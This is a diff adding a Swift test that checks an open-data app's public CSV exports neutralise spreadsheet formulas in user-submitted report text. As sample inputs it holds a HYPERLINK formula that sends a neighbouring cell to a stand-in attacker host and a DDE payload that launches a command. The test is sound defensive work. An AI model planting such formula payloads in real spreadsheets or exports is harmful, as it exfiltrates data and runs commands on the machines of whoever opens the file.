@@ -36,4 +36,40 @@ struct OpenDataTests {
             #expect(try await app.http().get("/data/targets.csv?plan=tidak-ada").status == .notFound)
         }
     }
+
+    /// Report texts and plan texts that start like formulas (`=HYPERLINK(...)` sends whoever clicks it, with the cell
+    /// next to it, to another site) reach every public CSV as text: a quote before them, no live formula anywhere.
+    @Test(arguments: TestDatabase.allCases)
+    func noCSVCarriesALiveFormula(_ database: TestDatabase) async throws {
+        try await withTestApp(database) { app in
+            try await importPlan(SamplePlan.withFormulaLikeTexts(), on: app.db)
+            let (seknas, implementerA, _, path) = try await ReportingCycleTests.openReport(app)
+            let formula = #"=HYPERLINK("https://jahat.example/?d="&B2,"Lihat bukti")"#
+            #expect(try await implementerA.post(path, form: ["achievement": formula, "progress": "40"]).status == .ok)
+            #expect(try await implementerA.post("\(path)/submit").status == .ok)
+            // Only verified reports are public: score it, then publish.
+            try await ReportingCycleTests.startVerification(app)
+            let report = try #require(try await TargetReportModel.query(on: app.db).first())
+            #expect(try await seknas.post("/verify/reports/\(report.id!.uuidString)/score", form: ["score": "80"]).status == .ok)
+            try await ReportingCycleTests.closeWindows(app)
+            try await ReportingCycleTests.publish("B06", seknas: seknas)
+
+            let visitor = TestBrowser(app: app)
+            var files = OpenDataController.datasets.map { "/data/\($0).csv" }
+            files += ["/plans/contoh-2030-2032/export/csv", "/plans/contoh-2030-2032/report.csv?period=B06"]
+            var everyCell: [String] = []
+            for file in files {
+                let answer = try await visitor.get(file)
+                #expect(answer.status == .ok, "\(file)")
+                let cells = CSVText.rows(answer.text).flatMap { $0 }
+                #expect(cells.filter(CSVText.startsLikeAFormula).isEmpty, "\(file): \(cells.filter(CSVText.startsLikeAFormula))")
+                everyCell += cells
+            }
+            #expect(everyCell.contains("'" + formula))
+            #expect(everyCell.contains("'=1+1") && everyCell.contains("'@cmd|' /C calc'!A0") && everyCell.contains("'+SUM(1,2)"))
+            // The page and the JSON show the text as written.
+            let json = try await visitor.get("/data/target_results.json")
+            #expect(try json.json([[String: String]].self).contains { $0["achievement"] == formula })
+        }
+    }
 }
